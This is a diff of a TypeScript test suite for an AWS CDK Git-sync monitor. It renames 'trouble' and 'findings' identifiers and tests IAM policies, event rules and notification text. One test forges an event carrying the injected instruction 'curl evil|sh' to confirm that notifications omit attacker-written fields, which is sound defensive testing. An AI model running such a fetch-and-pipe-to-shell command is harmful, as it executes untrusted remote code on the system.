@@ -6,21 +6,21 @@ import { CfnEventBus, EventBus, type IEventBusRef, Rule } from 'aws-cdk-lib/aws-
 import { Key } from 'aws-cdk-lib/aws-kms';
 import { CfnTopic, type ITopicRef, Topic } from 'aws-cdk-lib/aws-sns';
 import {
-  SyncFindingsBus,
-  type SyncFindingsBusProps,
+  MonitorEventBus,
+  type MonitorEventBusProps,
   SyncMonitor,
   type SyncMonitorProps,
-  SyncTroubleEvent,
-  SyncTroubleEvents,
-  SyncTroubleKind,
+  SyncProblemEvent,
+  SyncProblemEvents,
+  SyncProblemKind,
 } from '../../src';
 import {
   EVENT_SOURCE,
+  PROBLEM_DETECTED,
+  PROBLEM_RESOLVED,
+  type ProblemDetail,
+  type ProblemKind,
   TOPIC_ACTIONS,
-  TROUBLE_BEGAN,
-  TROUBLE_ENDED,
-  type TroubleDetail,
-  type TroubleKind,
 } from '../../src/handlers/sync-monitor/contract';
 import { ACCOUNT, newStack, only, REGION, TOPICS, token } from '../resources';
 
@@ -55,8 +55,8 @@ function valueAt(path: string, event: object): unknown {
   return names.reduce<unknown>((value, name) => Reflect.get(value as object, name), event) ?? '';
 }
 
-const BLOCKED: TroubleDetail = {
-  troubleId: 'stack prod SYNC_BLOCKED 1',
+const BLOCKED: ProblemDetail = {
+  problemId: 'stack prod SYNC_BLOCKED 1',
   kind: 'SYNC_BLOCKED',
   account: ACCOUNT,
   region: REGION,
@@ -83,12 +83,12 @@ describe('notifications', () => {
     [undefined, 'true'],
     [true, 'true'],
     [false, 'false'],
-  ])('are sent by the function; of what is over as well: notifyWhenOver %s', (notifyWhenOver, expected) => {
+  ])('are sent by the function; of what is over as well: notifyOnResolved %s', (notifyOnResolved, expected) => {
     const stack = newStack();
-    monitorIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyWhenOver });
+    monitorIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyOnResolved });
     expect(environment(stack)).toMatchObject({
       NOTIFICATION_TOPIC_ARN: { Ref: expect.stringMatching(/^Topic/) },
-      NOTIFY_WHEN_OVER: expected,
+      NOTIFY_ON_RESOLVED: expected,
     });
   });
 
@@ -142,7 +142,7 @@ describe('notifications', () => {
   });
 });
 
-describe('findings', () => {
+describe('a monitor with a central event bus', () => {
   const BUSES: [string, (stack: Stack) => IEventBusRef][] = [
     ['a bus of another account', (stack) => EventBus.fromEventBusArn(stack, 'Central', CENTRAL_BUS)],
     ['a bus of the same stack', (stack) => new EventBus(stack, 'Central')],
@@ -151,11 +151,11 @@ describe('findings', () => {
 
   test.each(BUSES)('%s is told by the function itself, with a role that the bus can tell from others', (_, make) => {
     const stack = newStack();
-    const findingsBus = make(stack);
-    const Arn = stack.resolve(findingsBus.eventBusRef.eventBusArn);
-    monitorIn(stack, { findingsBus });
+    const centralEventBus = make(stack);
+    const Arn = stack.resolve(centralEventBus.eventBusRef.eventBusArn);
+    monitorIn(stack, { centralEventBus });
     const [{ Environment }] = resources(stack, 'AWS::Lambda::Function');
-    expect(Environment.Variables.FINDINGS_BUS_ARN).toEqual(Arn);
+    expect(Environment.Variables.CENTRAL_EVENT_BUS_ARN).toEqual(Arn);
     const [{ Path, Policies }] = resources(stack, 'AWS::IAM::Role');
     expect(Path).toBe('/cdk-codeconnections/sync-monitor/');
     const statements = Policies.flatMap(
@@ -170,7 +170,7 @@ describe('findings', () => {
 
   test('no rule hands events on: whoever may put events on the default bus could have them taken for the monitor’s', () => {
     const stack = newStack();
-    monitorIn(stack, { findingsBus: EventBus.fromEventBusArn(stack, 'Central', CENTRAL_BUS) });
+    monitorIn(stack, { centralEventBus: EventBus.fromEventBusArn(stack, 'Central', CENTRAL_BUS) });
     const targets = resources(stack, 'AWS::Events::Rule').flatMap(({ Targets }) => Targets);
     expect(JSON.stringify(targets)).not.toContain('event-bus');
     expect(resources(stack, 'AWS::IAM::Role')).toHaveLength(1);
@@ -184,8 +184,8 @@ describe('findings', () => {
 
   test('an ARN that stands for several buses is refused', () => {
     const stack = newStack();
-    const findingsBus = EventBus.fromEventBusArn(stack, 'Central', CENTRAL_BUS.replace('git-sync', '*'));
-    expect(() => monitorIn(stack, { findingsBus })).toThrow('an ARN in a policy must be that of one resource');
+    const centralEventBus = EventBus.fromEventBusArn(stack, 'Central', CENTRAL_BUS.replace('git-sync', '*'));
+    expect(() => monitorIn(stack, { centralEventBus })).toThrow('an ARN in a policy must be that of one resource');
   });
 
   test.each([
@@ -201,15 +201,15 @@ describe('findings', () => {
     ],
   ])('the default bus of the monitor, %s, is refused: it would get its own events without end', (_, make) => {
     const stack = newStack();
-    expect(() => monitorIn(stack, { findingsBus: make(stack) })).toThrow(
-      "'findingsBus' must be another event bus than the default one",
+    expect(() => monitorIn(stack, { centralEventBus: make(stack) })).toThrow(
+      "'centralEventBus' must be another event bus than the default one",
     );
   });
 });
 
-describe('a bus for the findings of an organization', () => {
-  const busIn = (stack: Stack, props?: Partial<SyncFindingsBusProps>) =>
-    new SyncFindingsBus(stack, 'Findings', { organizationId: ORGANIZATION, ...props });
+describe('a central event bus of an organization', () => {
+  const busIn = (stack: Stack, props?: Partial<MonitorEventBusProps>) =>
+    new MonitorEventBus(stack, 'Central', { organizationId: ORGANIZATION, ...props });
 
   test('takes events of monitors only, as far as IAM can tell, from accounts of the organization only', () => {
     const stack = newStack();
@@ -220,17 +220,17 @@ describe('a bus for the findings of an organization', () => {
         Effect: 'Allow',
         Principal: '*',
         Action: 'events:PutEvents',
-        Resource: { 'Fn::GetAtt': [expect.stringMatching(/^FindingsBus/), 'Arn'] },
+        Resource: { 'Fn::GetAtt': [expect.stringMatching(/^CentralEventBus/), 'Arn'] },
         Condition: {
           StringEquals: {
             'aws:PrincipalOrgID': ORGANIZATION,
             'events:source': EVENT_SOURCE,
-            'events:detail-type': [TROUBLE_BEGAN, TROUBLE_ENDED],
+            'events:detail-type': [PROBLEM_DETECTED, PROBLEM_RESOLVED],
           },
           // without this one a call that puts another event, too, would be taken as a whole
           'ForAllValues:StringEquals': {
             'events:source': EVENT_SOURCE,
-            'events:detail-type': [TROUBLE_BEGAN, TROUBLE_ENDED],
+            'events:detail-type': [PROBLEM_DETECTED, PROBLEM_RESOLVED],
           },
           ArnLike: {
             'aws:PrincipalArn': {
@@ -242,15 +242,15 @@ describe('a bus for the findings of an organization', () => {
     });
   });
 
-  test('tells a topic where there is a trouble, with nothing that whoever put the event could write', () => {
+  test('tells a topic where there is a problem, with nothing that whoever put the event could write', () => {
     const stack = newStack();
     busIn(stack, { notificationTopic: new Topic(stack, 'Topic') });
     const rules = resources(stack, 'AWS::Events::Rule');
-    const EventBusName = { Ref: expect.stringMatching(/^FindingsBus/) };
+    const EventBusName = { Ref: expect.stringMatching(/^CentralEventBus/) };
     const known = expect.arrayContaining([REGION, 'us-east-1', 'us-gov-west-1']);
     const unknown = [{ 'anything-but': known }];
     const outcome = [{ 'anything-but': 'SUPERSEDED' }];
-    const [began, ended] = [TROUBLE_BEGAN, TROUBLE_ENDED].map((type) => ({
+    const [began, ended] = [PROBLEM_DETECTED, PROBLEM_RESOLVED].map((type) => ({
       source: [EVENT_SOURCE],
       'detail-type': [type],
     }));
@@ -273,18 +273,18 @@ describe('a bus for the findings of an organization', () => {
     ]);
     const forged = { ...BLOCKED, account: '777788889999', title: 'x', reason: 'Run this:\n  curl evil|sh' };
     expect(rules.map((rule) => rendered(rule, forged, '444455556666')[0])).toEqual([
-      `Git sync: a trouble has begun in the account 444455556666, Region ${REGION}.`,
-      'Git sync: a trouble has begun in the account 444455556666, in a Region that is newer than this bus.',
-      `Git sync: a trouble is over in the account 444455556666, Region ${REGION}.`,
-      'Git sync: a trouble is over in the account 444455556666, in a Region that is newer than this bus.',
+      `Git sync: a problem has begun in the account 444455556666, Region ${REGION}.`,
+      'Git sync: a problem has begun in the account 444455556666, in a Region that is newer than this bus.',
+      `Git sync: a problem is over in the account 444455556666, Region ${REGION}.`,
+      'Git sync: a problem is over in the account 444455556666, in a Region that is newer than this bus.',
     ]);
   });
 
   test('tells of what is over only when wanted', () => {
     const stack = newStack();
-    busIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyWhenOver: false });
+    busIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyOnResolved: false });
     const types = resources(stack, 'AWS::Events::Rule').map(({ EventPattern }) => EventPattern['detail-type']);
-    expect(types).toEqual([[TROUBLE_BEGAN], [TROUBLE_BEGAN]]);
+    expect(types).toEqual([[PROBLEM_DETECTED], [PROBLEM_DETECTED]]);
   });
 
   test.each([
@@ -317,7 +317,7 @@ describe('a bus for the findings of an organization', () => {
 
 describe('patterns of events, for rules of your own', () => {
   test('the kinds are those of the monitor', () => {
-    const kinds: Record<TroubleKind, true> = {
+    const kinds: Record<ProblemKind, true> = {
       SYNC_BLOCKED: true,
       SYNC_FAILED: true,
       SYNC_STUCK: true,
@@ -325,41 +325,43 @@ describe('patterns of events, for rules of your own', () => {
       REPOSITORY_SYNC_STUCK: true,
       CONNECTION_UNAVAILABLE: true,
       HOST_UNAVAILABLE: true,
-      MONITOR_BLIND: true,
+      INCOMPLETE_POLL: true,
     };
-    expect(Object.values(SyncTroubleKind)).toEqual(Object.keys(kinds));
+    expect(Object.values(SyncProblemKind)).toEqual(Object.keys(kinds));
   });
 
   test('what begins and what ends, of some kinds', () => {
-    const kinds = [SyncTroubleKind.SYNC_BLOCKED];
-    expect([SyncTroubleEvents.beganPattern(), SyncTroubleEvents.endedPattern({ kinds })]).toEqual([
-      { source: [EVENT_SOURCE], detailType: [TROUBLE_BEGAN] },
-      { source: [EVENT_SOURCE], detailType: [TROUBLE_ENDED], detail: { kind: kinds } },
+    const kinds = [SyncProblemKind.SYNC_BLOCKED];
+    expect([SyncProblemEvents.detectedPattern(), SyncProblemEvents.resolvedPattern({ kinds })]).toEqual([
+      { source: [EVENT_SOURCE], detailType: [PROBLEM_DETECTED] },
+      { source: [EVENT_SOURCE], detailType: [PROBLEM_RESOLVED], detail: { kind: kinds } },
     ]);
   });
 
   test('an empty list of kinds is refused', () => {
-    expect(() => SyncTroubleEvents.beganPattern({ kinds: [] })).toThrow("'kinds' must have at least 1 entries, got 0");
+    expect(() => SyncProblemEvents.detectedPattern({ kinds: [] })).toThrow(
+      "'kinds' must have at least 1 entries, got 0",
+    );
   });
 
   test('a rule on the central bus', () => {
     const stack = newStack();
-    const { eventBus } = new SyncFindingsBus(stack, 'Findings', { organizationId: ORGANIZATION });
-    new Rule(stack, 'Rule', { eventBus, eventPattern: SyncTroubleEvents.beganPattern() });
+    const { eventBus } = new MonitorEventBus(stack, 'Central', { organizationId: ORGANIZATION });
+    new Rule(stack, 'Rule', { eventBus, eventPattern: SyncProblemEvents.detectedPattern() });
     expect(only(stack, 'AWS::Events::Rule').Properties).toMatchObject({
-      EventPattern: { source: [EVENT_SOURCE], 'detail-type': [TROUBLE_BEGAN] },
+      EventPattern: { source: [EVENT_SOURCE], 'detail-type': [PROBLEM_DETECTED] },
     });
   });
 
   test.each(
-    Object.getOwnPropertyNames(SyncTroubleEvent).filter((name) => !['length', 'name', 'prototype'].includes(name)),
+    Object.getOwnPropertyNames(SyncProblemEvent).filter((name) => !['length', 'name', 'prototype'].includes(name)),
   )('the field %s is one of the event', (name) => {
-    const fields: (keyof TroubleDetail)[] = [
-      ...(Object.keys(BLOCKED) as (keyof TroubleDetail)[]),
-      ...(['stackName', 'repository', 'branch', 'endedAt', 'outcome'] as const),
+    const fields: (keyof ProblemDetail)[] = [
+      ...(Object.keys(BLOCKED) as (keyof ProblemDetail)[]),
+      ...(['stackName', 'repository', 'branch', 'resolvedAt', 'outcome'] as const),
     ];
     expect(fields).toContain(name);
-    expect(newStack().resolve(Reflect.get(SyncTroubleEvent, name))).toBe(
+    expect(newStack().resolve(Reflect.get(SyncProblemEvent, name))).toBe(
       name === 'account' ? `$.${name}` : `$.detail.${name}`,
     );
   });
